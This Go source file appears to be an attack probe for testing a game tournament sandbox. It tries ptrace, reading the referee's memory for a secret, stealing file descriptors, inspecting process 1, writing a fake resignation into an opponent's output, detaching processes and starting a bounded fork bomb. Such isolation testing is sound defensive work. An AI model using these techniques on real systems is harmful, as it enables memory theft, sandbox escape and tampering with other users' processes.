package attack

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"regexp"
	"runtime"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// seeProcesses looks for the others, and for what they were told.
func seeProcesses(s *Scene) (string, error) {
	tries := []func() (string, error){hearOfProcesses}
	for _, o := range append([]Someone{s.Referee}, s.Opponents()...) {
		tries = append(tries, func() (string, error) {
			if !s.Seen(o) {
				return "", fmt.Errorf("no process %d", o.PID)
			}
			return fmt.Sprintf("%s is process %d: %.40q", o, o.PID, commandLine(o.PID)), nil
		})
	}
	return Every(tries...)
}

// hearOfProcesses asks the kernel for news of every process that begins or ends, which ordinary users get since Linux 6.6.
func hearOfProcesses() (string, error) {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.NETLINK_CONNECTOR)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrNetlink{Family: unix.AF_NETLINK, Groups: 1}); err != nil {
		return "", err
	}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 100000})
	// struct nlmsghdr: length, type NLMSG_DONE, process; struct cn_msg: processes, sequence, length; "listen".
	ask := []uint32{40, 3, 0, uint32(os.Getpid()), 1, 1, 0, 0, 4, 1}
	if _, err := unix.Write(fd, unsafe.Slice((*byte)(unsafe.Pointer(&ask[0])), 4*len(ask))); err != nil {
		return "", err
	}
	exec.Command("/proc/self/exe", attackerWord).Run() // some news
	answer := make([]byte, 256)
	n, err := unix.Read(fd, answer)
	if err == nil && n > 52 && answer[36] == 0 { // what is said of no process only confirms
		n, err = unix.Read(fd, answer)
	}
	return Got(err, "heard %d bytes about processes", n)
}

// sendSignals sends what does nothing.
func sendSignals(s *Scene) (string, error) {
	return s.each(func(o Someone) (string, error) {
		if o.PID == 1 {
			return "", nil // the supervisor gets only what it asked for, as the first process of a namespace
		}
		return Every(
			func() (string, error) { return Got(unix.Kill(o.PID, 0), "kill reaches %s", o) },
			func() (string, error) {
				return Got(unix.Tgkill(o.PID, o.PID, unix.SIGURG), "tgkill reaches %s", o)
			},
			func() (string, error) {
				fd, err := unix.PidfdOpen(o.PID, 0)
				if err != nil {
					return "", err
				}
				defer unix.Close(fd)
				return Got(unix.PidfdSendSignal(fd, 0, nil, 0), "pidfd_send_signal reaches %s", o)
			},
			func() (string, error) {
				group, err := unix.Getpgid(o.PID)
				if err != nil || group == unix.Getpgrp() || group <= 1 {
					return "", err
				}
				return Got(unix.Kill(-group, 0), "kill reaches the group of %s", o)
			},
		)
	})
}

// trace lets go by ending.
func trace(s *Scene) (string, error) {
	runtime.LockOSThread()
	return s.each(func(o Someone) (string, error) { return Got(unix.PtraceSeize(o.PID), "ptrace of %s", o) })
}

// call is a system call of which only the error matters.
func call(number uintptr, a, b, c uintptr) error {
	_, _, errno := unix.Syscall(number, a, b, c)
	return failure(errno)
}

// failure is nil for 0.
func failure(errno unix.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}

// setUp is one as players send it, and as the referee keeps it.
var setUp = regexp.MustCompile(`\(\(A1 [1-9LBF]\) \(`)

// readMemory reads the secret where its place is known, else looks for a set-up.
func readMemory(s *Scene) (string, error) {
	return s.each(func(o Someone) (string, error) {
		known := s.Memory != 0 && o.PID == s.Referee.PID
		proof := func(text []byte, by string) (string, error) {
			if known && !s.secret(text) {
				return "", errors.New(by + " read something else")
			}
			return fmt.Sprintf("%s read %s's memory", by, o), nil
		}
		return Every(
			func() (string, error) {
				f, err := os.Open(o.Proc("mem"))
				if err != nil {
					return "", err
				}
				defer f.Close()
				if !known {
					n, found := search(f, o)
					return fmt.Sprintf("read %d bytes of %s's memory; a set-up in it: %q", n, o, found), nil
				}
				text := make([]byte, s.Length)
				if _, err := f.ReadAt(text, int64(s.Memory)); err != nil {
					return "", err
				}
				return proof(text, "/proc/PID/mem")
			},
			func() (string, error) {
				text := make([]byte, max(s.Length, 1))
				at := s.Memory
				if !known {
					at = 1 << 20 // nothing is there; whoever may not ask is told so first
				}
				local := []unix.Iovec{{Base: &text[0]}}
				local[0].SetLen(len(text))
				_, err := unix.ProcessVMReadv(o.PID, local, []unix.RemoteIovec{{Base: at, Len: len(text)}}, 0)
				if err != nil && (known || err != unix.EFAULT) {
					return "", err
				}
				return proof(text, "process_vm_readv")
			},
		)
	})
}

// search looks for a set-up in what a process has written to.
func search(memory io.ReaderAt, o Someone) (bytesRead int, found string) {
	maps, _ := os.ReadFile(o.Proc("maps"))
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		var rights string
		fmt.Sscanf(line, "%x-%x %s", &from, &to, &rights)
		if !strings.HasPrefix(rights, "rw") || bytesRead > 64<<20 {
			continue
		}
		part := make([]byte, min(to-from, 16<<20))
		n, _ := memory.ReadAt(part, from)
		bytesRead += n
		if found = string(setUp.Find(part[:n])); found != "" {
			break
		}
	}
	return bytesRead, found
}

// descriptors opens and copies the open files of others.
func descriptors(s *Scene) (string, error) {
	return s.each(func(o Someone) (string, error) {
		tries := []func() (string, error){func() (string, error) {
			handle, err := unix.PidfdOpen(o.PID, 0)
			if err != nil {
				return "", err
			}
			defer unix.Close(handle)
			for fd := range 16 {
				var stolen int
				if stolen, err = unix.PidfdGetfd(handle, fd, 0); err == nil {
					unix.Close(stolen)
					return fmt.Sprintf("pidfd_getfd took descriptor %d of %s", fd, o), nil
				}
			}
			return "", err
		}}
		for fd := range 24 {
			tries = append(tries, func() (string, error) {
				path := o.Proc(fmt.Sprintf("fd/%d", fd))
				if link, err := os.Readlink(path); err == nil {
					return fmt.Sprintf("descriptor %d of %s is %s", fd, o, link), nil
				}
				f, err := os.OpenFile(path, os.O_RDONLY|unix.O_NONBLOCK|unix.O_NOCTTY, 0)
				if err == nil {
					f.Close()
				}
				return Got(err, "opened descriptor %d of %s", fd, o)
			})
		}
		return Every(tries...)
	})
}

// inspect asks for what the kernel tells only those who may trace a process.
func inspect(s *Scene) (string, error) {
	return s.each(func(o Someone) (string, error) {
		tries := []func() (string, error){
			func() (string, error) {
				n, _, errno := unix.Syscall6(unix.SYS_KCMP, uintptr(unix.Getpid()), uintptr(o.PID), 0, 0, 0, 0)
				return Got(failure(errno), "kcmp with %s says %d", o, n)
			},
			func() (string, error) {
				var head, length uintptr
				return Got(call(unix.SYS_GET_ROBUST_LIST, uintptr(o.PID), uintptr(unsafe.Pointer(&head)), uintptr(unsafe.Pointer(&length))), "the locks of %s", o)
			},
			func() (string, error) {
				return Got(call(unix.SYS_MIGRATE_PAGES, uintptr(o.PID), 0, 0), "the memory of %s can be moved", o)
			},
		}
		for _, name := range []string{"maps", "smaps", "auxv", "io", "syscall", "stack", "pagemap"} {
			tries = append(tries, func() (string, error) {
				f, err := os.Open(o.Proc(name))
				if err != nil {
					return "", err
				}
				defer f.Close()
				if n, err := f.Read(make([]byte, 512)); n == 0 {
					return "", fmt.Errorf("%s of %s: %w", name, o, err)
				}
				return fmt.Sprintf("%s of %s", name, o), nil
			})
		}
		for _, name := range []string{"root", "cwd", "exe"} {
			tries = append(tries, func() (string, error) {
				_, err := os.Stat(o.Proc(name))
				return Got(err, "%s of %s can be reached", name, o)
			})
		}
		return Every(tries...)
	})
}

// count learns how many files others have open, and their numbers.
func count(s *Scene) (string, error) {
	return s.each(func(o Someone) (string, error) {
		var tries []func() (string, error)
		for _, name := range []string{"fd", "fdinfo", "map_files", "ns"} {
			tries = append(tries, func() (string, error) {
				names, err := os.ReadDir(o.Proc(name))
				return Got(err, "%d names in %s of %s", len(names), name, o)
			})
		}
		return Every(tries...)
	})
}

// writeOutput writes into the standard output of whoever runs as the opponent.
func writeOutput(s *Scene) (string, error) {
	if s.Opponent.PID == 0 {
		return "", fmt.Errorf("%w: which process is the opponent, nobody said", errUntried)
	}
	if s.other(s.Opponent) {
		return "", fmt.Errorf("process %d is not the opponent here", s.Opponent.PID)
	}
	f, err := os.OpenFile(s.Opponent.Proc("fd/1"), os.O_WRONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return "", err
	}
	defer f.Close()
	_, err = f.WriteString("(resign) " + s.Mark + "\n")
	return Got(err, "wrote into the opponent's output")
}

// initProcess goes through the first process that it sees, its own supervisor if it is enclosed, to what that one
// still has open or mounted.
func initProcess(s *Scene) (string, error) {
	tries := []func() (string, error){
		func() (string, error) {
			names, err := os.ReadDir("/proc/1/fd")
			if err != nil || len(names) == 0 {
				return "", err
			}
			return fmt.Sprintf("process 1 has %d files", len(names)), nil
		},
		func() (string, error) {
			f, err := os.OpenFile("/proc/1/mem", os.O_RDWR, 0)
			if err == nil {
				f.Close()
			}
			return Got(err, "the memory of process 1")
		},
		func() (string, error) {
			text, err := os.ReadFile("/proc/1/environ")
			if len(text) == 0 {
				return "", err
			}
			return "the environment of process 1", nil
		},
	}
	for _, path := range s.Hidden {
		tries = append(tries, func() (string, error) {
			_, err := os.Stat("/proc/1/root" + path)
			return Got(err, "the file system of process 1 has %s", path)
		})
	}
	return Every(tries...)
}

// outlive leaves processes that have left their family: in a session of their own, without a file for their program, as
// children of its parent.
func outlive(s *Scene) (string, error) {
	if s.Outlive == "" {
		return "", fmt.Errorf("%w: nobody looks", errUntried)
	}
	self, err := os.Executable()
	if err != nil {
		return "", err
	}
	null, err := os.OpenFile("/dev/null", os.O_RDWR, 0)
	if err != nil {
		return "", err
	}
	defer null.Close()
	start := func(program string, sys *unix.SysProcAttr) func() (string, error) {
		return quietly(func() error {
			_, err := os.StartProcess(program, []string{self, attackerWord, doesOutlive, s.Outlive}, &os.ProcAttr{
				Files: []*os.File{null, null, null}, Sys: sys,
			})
			return err
		})
	}
	fd, err := unix.MemfdCreate("luzhanqi", 0)
	if err != nil {
		return "", err
	}
	memory := os.NewFile(uintptr(fd), "memory")
	defer memory.Close()
	text, err := os.ReadFile(self)
	if err == nil {
		_, err = memory.Write(text)
	}
	if err != nil {
		return "", err
	}
	return Every( // whether they do, the observer sees
		start(self, &unix.SysProcAttr{Setsid: true}),
		start(self, &unix.SysProcAttr{Setsid: true, Cloneflags: syscall.CLONE_PARENT}),
		start(fmt.Sprintf("/proc/self/fd/%d", fd), &unix.SysProcAttr{Setsid: true}),
	)
}

// bomb starts more processes than its limit, which end by themselves all the same.
func bomb(text string) {
	self, err := os.Executable()
	if err != nil {
		return
	}
	for range bombs {
		os.StartProcess(self, []string{self, attackerWord, doesOpponent, text}, &os.ProcAttr{Files: []*os.File{os.Stdin, nil, os.Stderr}})
	}
	select {}
}

// bombs are more than their limit allows.
const (
	bombs      = 40
	bombsLimit = 20
)
